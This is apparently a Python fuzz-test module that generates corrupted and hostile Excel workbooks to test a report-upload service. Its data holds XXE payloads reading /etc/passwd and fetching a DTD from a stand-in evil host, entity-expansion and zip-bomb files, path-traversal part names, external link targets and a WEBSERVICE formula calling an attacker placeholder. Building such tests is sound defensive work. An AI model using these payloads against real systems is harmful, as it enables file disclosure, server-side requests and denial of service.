"""Workbooks of attackers, each by its number: valid ones, altered once to three times."""

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

from data.i18n import LANGUAGES
from data.report.order import KINDS
from tests.attacks.texts import MARK, TEXTS
from tests.data.report.invalid import FIGURE
from tests.data.report.workbooks import GOOD, answering, filled, order, xml_of

Parts = dict[str, bytes]
Chance = random.Random
XML = b'<?xml version="1.0" encoding="UTF-8"?>'
NAMES = (
    *(
        "../../../../etc/x.xml",
        "/etc/passwd",
        "..\\..\\x.xml",
        "xl/../../x",
        "C:/x.xml",
        "\0.xml",
        "xl/",
        "",
        "XL/Workbook.xml",
    ),
    *("xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml", "xl/embeddings/oleObject1.bin", "xl/media/image1.png"),
    *("xl/connections.xml", "xl/comments1.xml", "customXml/item1.xml", "XL/Workbook.xml", "x" * 5000),
    *(f"xl/{MARK}\u202e.xml", "xl/sharedStrings.xml", "docProps/app.xml", "xl/calcChain.xml", "xl/metadata.xml"),
)
# XML that asks for a file, for time, or for memory.
DOCUMENTS = (
    XML + b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><sst>&e;</sst>',
    XML + b'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil0.example/x.dtd"> %e;]><sst/>',
    XML + b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 90_000 + b'"><!ENTITY b "' + b"&a;" * 900 + b'">]><sst>&b;</sst>',
    XML + b"<a>" * 30_000,
    XML + b"<a>" * 60 + b"</a>" * 60,
    XML + b"<sst " + b" ".join(b'a%d=""' % n for n in range(20_000)) + b"/>",
    XML + b"<sst>" + b"<si/>" * 300_000 + b"</sst>",
    XML + b"<sst><si><t>" + b"x" * 3_000_000 + b"</t></si></sst>",
    b"\xff\xfe" + '<?xml version="1.0" encoding="UTF-16"?><sst/>'.encode("utf-16-le"),
    b'<?xml version="1.0" encoding="UTF-7"?><sst/>',
    b"\xef\xbb\xbf" + XML + b"<sst/>",
    b'<?xml-stylesheet href="javascript:evil0()"?><sst/>',
    b"<![CDATA[evil0]]>",
    b"\0" * 1000,
    b"",
)
# Pieces of sheets in place of what a spreadsheet program writes there.
PIECES = (
    (rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>'),
    (rb"<sheetData>", b'<sheetData><row r="1048577"><c r="A1048577"><v>1</v></c></row>'),
    (rb"<sheetData>", b'<sheetData><row r="-1"><c r="A0"><v>1</v></c></row>'),
    (rb"<sheetData>", b'<sheetData><row r="99999999999"><c r="ZZZZ1"><v>1</v></c></row>'),
    (rb"<sheetData>", b"<sheetData>" + b"<row>" + b"<c/>" * 20_000 + b"</row>"),
    (rb"<sheetData>", b'<cols><col min="1" max="16384" width="9"/><col min="-5" max="99999999"/></cols><sheetData>'),
    (rb"<pageMargins", b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><pageMargins'),
    (rb"<pageMargins", b'<mergeCells><mergeCell ref="evil0"/></mergeCells><pageMargins'),
    (
        rb"<pageMargins",
        b'<hyperlinks><hyperlink ref="A1:XFD9" location="evil0()"/></hyperlinks><pageMargins',
    ),
    (rb"<pageMargins", b'<dataValidations><dataValidation sqref="A1:XFD1048576"/></dataValidations><pageMargins'),
    (rb"<pageMargins", b'<conditionalFormatting sqref="' + b"A1:XFD1048576 " * 500 + b'"/><pageMargins'),
    (rb"<pageMargins", b'<legacyDrawing r:id="rId99"/><oleObjects/><pageMargins'),
    (rb' s="\d+"', b' s="99999999"'),
    (rb' s="\d+"', b' s="-1"'),
    (rb' t="s"', b' t="evil0"'),
    (rb"<v>\d+</v>", b"<v>99999999999999999999</v>"),
    (rb"<v>\d+</v>", b"<v>-1</v>"),
    (rb"<v>\d+</v>", b"<v>1e309</v>"),
    (rb"<v>\d+</v>", b"<v>NaN</v>"),
    (rb"<v>\d+</v>", b"<v>evil0</v>"),
    (rb"<v>\d+</v>", b"<v/>"),
)
# Cells of a type that the form does not want; `@` stands for the place.
CELLS = (
    b'<c r="@" t="d"><v>2019-13-45T99:99:99</v></c>',
    b'<c r="@" t="e"><v>#REF!</v></c>',
    b'<c r="@" t="b"><v>7</v></c>',
    b'<c r="@" t="n"><v>-1e300</v></c>',
    b'<c r="@" t="s"><v>2147483648</v></c>',
    b'<c r="@" t="str"><f t="shared" ref="A1:XFD1048576" si="0">evil0()</f><v>evil0</v></c>',
    b'<c r="@"><f t="array" ref="A1:A9">[1]evil0!A1</f></c>',
    b'<c r="@"><f>WEBSERVICE("https://evil0.example")</f><v>1</v></c>',
    b'<c r="@" t="inlineStr"><is><r><t>evil0</t></r><rPh sb="0" eb="9"><t>evil0</t></rPh></is></c>',
    b'<c r="@" t="inlineStr"><is><t>_x0000__x202E_evil0_xFFFF_</t></is></c>',
    b'<c r="@" t="inlineStr"/>',
)


@cache
def valid(number: int) -> bytes:
    """A workbook as a focal point fills it in: a report, a review, a reply or a correction."""
    kind, lang = KINDS[number % len(KINDS)], tuple(LANGUAGES)[number % len(LANGUAGES)]
    request = order(kind, lang=lang)
    if kind == "report":
        return filled(request, {12: GOOD, 16: GOOD})
    return answering(request, [FIGURE if kind == "correction" else {"replies_to": "law:CRI", "finding": "No."}])


def workbook(number: int) -> tuple[str, bytes]:
    """The name and the bytes of a file by its number."""
    chance = random.Random(f"workbook {number}")  # noqa: S311
    content = valid(chance.choice((0, 0, 0, *range(8))))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for _ in range(chance.choice((1, 1, 2, 3))):
        chance.choice(OF_PARTS)(chance, parts)
    packed = _packed(chance, parts)
    # Streamlit refuses a name with a zero.
    name = chance.choice(("report.xlsx", f"{chance.choice(TEXTS)[:120]}.xlsx")).replace("\0", "")
    return name, chance.choice(OF_BYTES)(chance, packed) if chance.random() < 0.25 else packed


def _packed(chance: Chance, parts: Parts) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", chance.choice((zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED))) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, archive.compression)
    return stream.getvalue()


# What is altered in the parts.


def _sheet(chance: Chance, parts: Parts) -> str:
    """The name of a sheet, or of any part where the sheets were renamed."""
    sheets = [name for name in parts if name.startswith("xl/worksheets/sheet")]
    return chance.choice(sheets or list(parts))


def _texts(chance: Chance, parts: Parts) -> None:
    """Texts of attackers in some cells, blank or not."""
    name = _sheet(chance, parts)
    for _ in range(chance.randint(1, 5)):
        cells = re.findall(rb'<c r="[A-Z]+\d+"[^>]*?/>|<c r="[A-Z]+\d+"[^>/]*>.*?</c>', parts[name][:200_000])
        if cells:
            cell = chance.choice(cells)
            place = cell.split(b'"')[1].decode()
            signs = "".join(sign for sign in chance.choice(TEXTS) if sign >= " " or sign in "\t\n")
            parts[name] = parts[name].replace(cell, xml_of(place, b"", signs), 1)


def _types(chance: Chance, parts: Parts) -> None:
    """Cells of types that the form does not want."""
    name = _sheet(chance, parts)
    cells = re.findall(rb'<c r="[A-Z]+\d+"[^>]*?/>', parts[name][:200_000])
    for cell in chance.sample(cells, min(3, len(cells))):
        parts[name] = parts[name].replace(cell, chance.choice(CELLS).replace(b"@", cell.split(b'"')[1]), 1)


def _pieces(chance: Chance, parts: Parts) -> None:
    name, (found, piece) = _sheet(chance, parts), chance.choice(PIECES)
    parts[name] = re.sub(found, piece.replace(b"\\", b"\\\\"), parts[name], count=chance.choice((0, 1, 3)))


def _document(chance: Chance, parts: Parts) -> None:
    parts[chance.choice([*parts, *NAMES[-4:]])] = chance.choice(DOCUMENTS)


def _drop(chance: Chance, parts: Parts) -> None:
    del parts[chance.choice(list(parts))]


def _rename(chance: Chance, parts: Parts) -> None:
    parts[chance.choice(NAMES)] = parts.pop(chance.choice(list(parts)))


def _swap(chance: Chance, parts: Parts) -> None:
    one, other = chance.choices(list(parts), k=2)
    parts[one], parts[other] = parts[other], parts[one]


def _add(chance: Chance, parts: Parts) -> None:
    sizes = (0, 10, 100_000, 4_900_000)
    parts[chance.choice(NAMES)] = chance.choice((b" ", b"\0", b"<x/>")) * chance.choice(sizes)


def _many(chance: Chance, parts: Parts) -> None:
    parts |= {f"customXml/item{n}.xml": b"<x/>" for n in range(chance.choice((10, 150, 400)))}


def _relations(chance: Chance, parts: Parts) -> None:
    """Targets of relations outside the workbook."""
    target = chance.choice(
        ("file:///etc/passwd", "https://evil0.example/x.xlsx", "../../../etc/passwd", "\\\\evil0\\x")
    )
    for name in [name for name in parts if name.endswith(".rels")]:
        external = f'Target="{target}" TargetMode="External"'.encode()
        parts[name] = re.sub(rb'Target="[^"]*"', external.replace(b"\\", b"\\\\"), parts[name], count=1)


def _names(chance: Chance, parts: Parts) -> None:
    """Texts of attackers as names of sheets and as defined names."""
    if "xl/workbook.xml" not in parts:
        return
    text = xml_of("A1", b"", chance.choice([text for text in TEXTS if text.isprintable()])[:300])
    word = text.partition(b'preserve">')[2].partition(b"</t>")[0].replace(b'"', b"&quot;").replace(b"\\", b"\\\\")
    parts["xl/workbook.xml"] = re.sub(rb'name="[^"]*"', b'name="' + word + b'"', parts["xl/workbook.xml"], count=1)


def _encoding(chance: Chance, parts: Parts) -> None:
    name = chance.choice(list(parts))
    parts[name] = parts[name].replace(
        b"UTF-8", chance.choice((b"UTF-16", b"latin-1", b"evil0", b"utf-7", b"base64")), 1
    )


def _signs(chance: Chance, parts: Parts) -> None:
    """Some bytes of a part."""
    name = chance.choice(list(parts))
    content = bytearray(parts[name] or b"x")
    for _ in range(chance.randint(1, 20)):
        content[chance.randrange(len(content))] = chance.randrange(256)
    parts[name] = bytes(content)


# What is altered in the file.


def _cut(chance: Chance, content: bytes) -> bytes:
    at = chance.randrange(len(content))
    return chance.choice((content[:at], content[at:], content[:at] + content[at + 100 :]))


def _flip(chance: Chance, content: bytes) -> bytes:
    altered = bytearray(content)
    for _ in range(chance.randint(1, 30)):
        altered[chance.randrange(len(altered))] ^= 1 << chance.randrange(8)
    return bytes(altered)


def _surround(chance: Chance, content: bytes) -> bytes:
    more = chance.choice((b"MZ", b"%PDF-1.4", b"<script>evil0()</script>", b"\0" * 1_100_000, content))
    return chance.choice((more + content, content + more))


def _sizes(chance: Chance, content: bytes) -> bytes:
    """Sizes, flags or methods in the directory that are not true."""
    altered, at = bytearray(content), content.rfind(b"PK\x01\x02")
    place, form = chance.choice(((8, "<H"), (10, "<H"), (20, "<I"), (24, "<I"), (28, "<H"), (42, "<I")))
    if at >= 0:
        struct.pack_into(form, altered, at + place, chance.choice((0, 1, 9, 65_535)))
    return bytes(altered)


def _bomb(_chance: Chance, content: bytes) -> bytes:
    """A part of 60 MB, which is 60 kB in the file."""
    stream = io.BytesIO(content)
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("docProps/bomb.xml", b" " * 60_000_000)
    return stream.getvalue()


def _lying_bomb(_chance: Chance, content: bytes) -> bytes:
    """A part of 20 MB that says it has ten bytes."""
    stream = io.BytesIO(content)
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("docProps/odd.xml", b" " * 20_000_000)
        part = archive.getinfo("docProps/odd.xml")
        part.file_size, part.CRC = 10, zlib.crc32(b" " * 10)
    return stream.getvalue()


def _other(chance: Chance, _content: bytes) -> bytes:
    return chance.choice((b"", b"PK\x03\x04", b"PK\x05\x06" + b"\0" * 18, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 9))


OF_PARTS: tuple[Callable[[Chance, Parts], None], ...] = (
    *(_texts, _texts, _texts, _texts, _types, _types, _types, _pieces, _pieces, _pieces, _pieces),
    *(_document, _drop, _rename, _swap, _add, _many, _relations, _names, _encoding, _signs),
)
OF_BYTES: tuple[Callable[[Chance, bytes], bytes], ...] = (
    *(_cut, _flip, _surround, _sizes, _sizes, _bomb, _lying_bomb, _other),
)
